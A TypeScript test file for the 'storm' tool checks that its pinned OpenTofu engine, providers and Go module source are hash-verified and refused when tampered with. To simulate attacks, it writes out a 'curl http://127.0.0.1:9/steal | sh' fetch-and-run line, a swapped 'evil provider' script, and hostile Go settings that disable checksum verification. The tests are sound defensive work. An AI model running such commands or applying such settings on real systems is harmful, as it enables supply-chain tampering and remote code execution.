/**
 * Item 8 of the trust review: the engine that was pinned is the engine that
 * runs. A cached binary changed after storm built it is refused (with how to
 * rebuild), also when its mtime is put back; a `tofu` on PATH that is not the
 * pinned version is passed over unless the user names it in STORM_TOFU.
 * Each case uses a copy of the cache layout in a temp dir, never ~/.cache/storm.
 */
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { ensureEngine, planEngine } from '../../src/engine/bootstrap';
import type { ProgressEvent } from '../../src/progress';
import { fakeEngineCache, fakeEngineScript, writeExecutable } from '../support/engine-cache';
import { TOFU_MODULE_SUM } from '../../src/pins';

let dir: string;
let cache: string;
let bin: string;
beforeEach(() => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'storm-pinning-'));
  cache = path.join(dir, 'cache');
  bin = path.join(dir, 'bin');
  fs.mkdirSync(bin);
});
afterEach(() => {
  vi.unstubAllEnvs();
  fs.rmSync(dir, { recursive: true, force: true });
});

describe('a cached engine binary', () => {
  it('is used while it is the one storm built', async () => {
    const layout = fakeEngineCache(cache);
    const engine = await ensureEngine(() => undefined, { env: { STORM_CACHE_DIR: cache, PATH: bin } });
    expect(engine).toMatchObject({ source: 'cache', tofuPath: layout.tofuPath, tofuVersion: '1.12.6' });
  });

  it('is refused once changed, even with its mtime put back, with how to rebuild it', async () => {
    const layout = fakeEngineCache(cache);
    const before = fs.statSync(layout.tofuPath);
    fs.appendFileSync(layout.tofuPath, 'curl http://127.0.0.1:9/steal | sh\n');
    fs.utimesSync(layout.tofuPath, before.atime, before.mtime);
    const failure = ensureEngine(() => undefined, { env: { STORM_CACHE_DIR: cache, PATH: bin } });
    await expect(failure).rejects.toMatchObject({
      code: 'engine-failed',
      message: expect.stringMatching(
        /cached OpenTofu 1\.12\.6 .*tofu is not the binary storm built: its sha256 is [0-9a-f]{64}, storm recorded [0-9a-f]{64}/,
      ),
      hint: expect.stringContaining(`rm -r ${layout.tofuDir} && npx storm doctor`),
    });
  });

  it('is refused when the provider in the mirror was swapped', async () => {
    const layout = fakeEngineCache(cache);
    const swapped = layout.providerPaths[1]!;
    fs.rmSync(swapped);
    writeExecutable(swapped, '#!/bin/sh\necho evil provider\n');
    await expect(ensureEngine(() => undefined, { env: { STORM_CACHE_DIR: cache, PATH: bin } })).rejects.toMatchObject({
      code: 'engine-failed',
      message: expect.stringContaining(`terraform-provider-openstack 3.4.0 ${swapped} is not the binary storm built`),
    });
  });

  it('built before storm recorded hashes is checked, recorded once with a warning, and refused when changed after', async () => {
    const layout = fakeEngineCache(cache, { recorded: false });
    const events: ProgressEvent[] = [];
    const env = { STORM_CACHE_DIR: cache, PATH: bin };
    await ensureEngine((e) => events.push(e), { env });
    expect(events).toContainEqual({
      kind: 'warning',
      message: expect.stringMatching(/^recorded the sha256 of .*tofu, built before storm recorded hashes/),
    });
    expect(JSON.parse(fs.readFileSync(layout.tofuStamp, 'utf8'))).toHaveProperty([
      'files',
      'tofu/1.12.6/tofu',
      'sha256',
    ]);
    fs.appendFileSync(layout.tofuPath, '# changed\n');
    await expect(ensureEngine(() => undefined, { env })).rejects.toMatchObject({ code: 'engine-failed' });
  });

  it('re-hashes a copied cache (new inode, same bytes) once and goes on', async () => {
    fakeEngineCache(cache);
    const copy = path.join(dir, 'copy');
    fs.cpSync(cache, copy, { recursive: true });
    const engine = await ensureEngine(() => undefined, { env: { STORM_CACHE_DIR: copy, PATH: bin } });
    expect(engine.source).toBe('cache');
  });
});

describe('a tofu on PATH', () => {
  it('that is not the pinned version is not used, and the plan says why', async () => {
    writeExecutable(path.join(bin, 'tofu'), fakeEngineScript('1.11.0'));
    const layout = fakeEngineCache(cache);
    const plan = await planEngine({ STORM_CACHE_DIR: cache, PATH: bin });
    expect(plan.engine).toEqual({ state: 'found', source: 'cache', path: layout.tofuPath, version: '1.12.6' });
    expect(plan.skipped).toEqual([
      {
        path: path.join(bin, 'tofu'),
        reason: 'it is version 1.11.0, not the pinned 1.12.6 (name it in STORM_TOFU to use it)',
      },
    ]);
    const events: ProgressEvent[] = [];
    const engine = await ensureEngine((e) => events.push(e), { env: { STORM_CACHE_DIR: cache, PATH: bin } });
    expect(engine.tofuPath).toBe(layout.tofuPath);
    expect(events.filter((e) => e.kind === 'warning').map((e) => e.message)).toEqual([
      `ignoring ${path.join(bin, 'tofu')}: it is version 1.11.0, not the pinned 1.12.6 (name it in STORM_TOFU to use it)`,
    ]);
  });

  it('is used when it is exactly the pinned version, and any engine ≥ 1.8 when named in STORM_TOFU', async () => {
    writeExecutable(path.join(bin, 'tofu'), fakeEngineScript('1.12.6'));
    fakeEngineCache(cache);
    expect((await planEngine({ STORM_CACHE_DIR: cache, PATH: bin })).engine).toMatchObject({
      source: 'path',
      path: path.join(bin, 'tofu'),
    });
    const other = path.join(dir, 'tofu-1.11');
    writeExecutable(other, fakeEngineScript('1.11.0'));
    expect((await planEngine({ STORM_CACHE_DIR: cache, PATH: bin, STORM_TOFU: other })).engine).toMatchObject({
      source: 'STORM_TOFU',
      path: other,
      version: '1.11.0',
    });
  });
});

describe('a module the machine serves tampered', () => {
  /**
   * A `go` that answers as the real one would for a poisoned module cache
   * (or a GOFLAGS=-mod=mod / GONOSUMDB machine): the proxy's Sum is the pinned
   * one, the source on disk is not. It logs the environment its download step ran with.
   */
  function fakeGo(moduleDir: string, sum: string, envLog: string): string {
    return [
      '#!/bin/sh',
      // What the download and build steps see (`go version` and `go env` only read where things are).
      `case "$1" in mod|build|install) env | grep -E '^(GO|CGO_)' | sort >> ${JSON.stringify(envLog)} ;; esac`,
      'case "$1" in',
      '  version) echo "go version go1.26.8 linux/amd64" ;;',
      `  env) echo '{"GOPATH":"${dir}/gopath","GOMODCACHE":"${dir}/gopath/pkg/mod","GOCACHE":"${dir}/gocache","GOPROXY":"https://proxy.golang.org,direct"}' ;;`,
      `  mod) echo '{"Dir":"${moduleDir}","Sum":"${sum}"}' ;;`,
      '  *) echo "unexpected: $*" >&2; exit 3 ;;',
      'esac',
    ].join('\n');
  }

  it('is not built: the source is re-hashed against the pinned h1, whatever GOFLAGS/GONOSUMDB the machine sets', async () => {
    const moduleDir = path.join(dir, 'mod', 'opentofu@v1.12.6');
    fs.mkdirSync(path.join(moduleDir, 'cmd', 'tofu'), { recursive: true });
    fs.writeFileSync(path.join(moduleDir, 'go.mod'), 'module github.com/opentofu/opentofu\n');
    fs.writeFileSync(path.join(moduleDir, 'cmd', 'tofu', 'main.go'), 'package main // with a backdoor\n');
    const envLog = path.join(dir, 'go-env.log');
    writeExecutable(path.join(bin, 'go'), fakeGo(moduleDir, TOFU_MODULE_SUM, envLog));
    // In storm's own environment too, as a CI job or a shell profile would set them.
    const hostile = { GOFLAGS: '-mod=mod -insecure', GONOSUMDB: '*', GOSUMDB: 'off', GOINSECURE: '*' };
    for (const [name, value] of Object.entries(hostile)) vi.stubEnv(name, value);
    const env = { ...process.env, STORM_CACHE_DIR: cache, PATH: bin };
    await expect(ensureEngine(() => undefined, { env })).rejects.toMatchObject({
      code: 'engine-failed',
      message: expect.stringMatching(
        new RegExp(
          `opentofu@v1\\.12\\.6: the source in .* hashes to h1:\\S+, storm pins ${escape(TOFU_MODULE_SUM)}; not building it`,
        ),
      ),
    });
    // Nothing was built or cached, and Go never saw the machine's trust settings.
    expect(fs.existsSync(path.join(cache, 'tofu'))).toBe(false);
    const seen = fs.readFileSync(envLog, 'utf8');
    expect(seen).toContain('GOSUMDB=sum.golang.org\n');
    expect(seen).toContain('GOFLAGS=-mod=readonly\n');
    expect(seen).not.toMatch(/GONOSUMDB=\*|GOINSECURE=\*|GOSUMDB=off|-insecure/);
  });
});

function escape(s: string): string {
  return s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
